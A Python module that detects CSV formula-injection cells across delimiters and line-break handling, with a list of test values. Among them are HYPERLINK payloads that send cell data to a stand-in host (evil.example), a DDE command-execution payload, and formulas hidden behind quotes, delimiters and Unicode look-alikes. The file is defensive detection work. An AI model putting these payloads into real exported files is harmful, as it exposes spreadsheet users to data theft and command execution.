"""What a program for tables makes of a CSV file, whichever delimiter it expects."""

from __future__ import annotations

import csv
import io
import re

#: What readers expect between cells, by the language of the program or its owner's choice.
DELIMITERS = ",;\t"
#: Begin a formula: in ASCII, and the forms that are the same to Unicode (NFKC).
STARTS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u207a\u208c\u208a\ufb29"
#: Values that a program might calculate, each in another way.
FORMULAS = [
    *(f"{start}1+1" for start in STARTS),
    *(
        f"{space}=1+1"
        for space in ["\t", "\r", "\n", "\r\n", " ", "\xa0", "\u3000", "\v", "\x1f", "\u200b", "\ufeff"]
    ),
    *(f"a{delimiter}{start}1" for delimiter in [*DELIMITERS, "\r", "\n", "\r\n"] for start in STARTS),
    *(
        f'a{delimiter}{between}=1;"'
        for delimiter in DELIMITERS
        for between in ['"', '""', ' "', "'", " ", "\t"]
    ),
    *(f"a{line}=1" for line in "\v\f\x1c\x1d\x1e\x85\u2028\u2029"),
    'x;"=HYPERLINK(1);',
    'x;"=HYPERLINK(""https://evil.example/""&A1;""click"")',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '"=1',
    '"";"=1',
    "'=1",
    "''=1",
    "'",
    "\tno formula",
    "\r",
    "a;\tb",
]
_SKIPPED = re.compile(r'[\s"\x00-\x1f\x7f-\x9f\u200b-\u200f\u2060-\u2064\ufeff]*')


def readings(text: str) -> list[tuple[str, list[list[str]]]]:
    """The rows of ``text`` as each reader sees them, and a name of the reader."""
    text = text.removeprefix("\ufeff")
    read = []
    for delimiter in DELIMITERS:
        # The second reader takes more characters for the end of a line, as ``str.splitlines`` does.
        for name, lines in (
            ("file", io.StringIO(text, newline="")),
            ("lines", iter(text.splitlines(keepends=True))),
        ):
            read.append((f"{name} {delimiter!r}", list(csv.reader(lines, delimiter=delimiter))))
    return read


def dangers(text: str) -> list[tuple[str, str]]:
    """The cells of ``text`` that a program might calculate, each with the name of its reader."""
    return [
        (reader, cell)
        for reader, rows in readings(text)
        for row in rows
        for cell in row
        if cell.startswith(("\t", "\r", "\n")) or _SKIPPED.sub("", cell, count=1).startswith(tuple(STARTS))
    ]
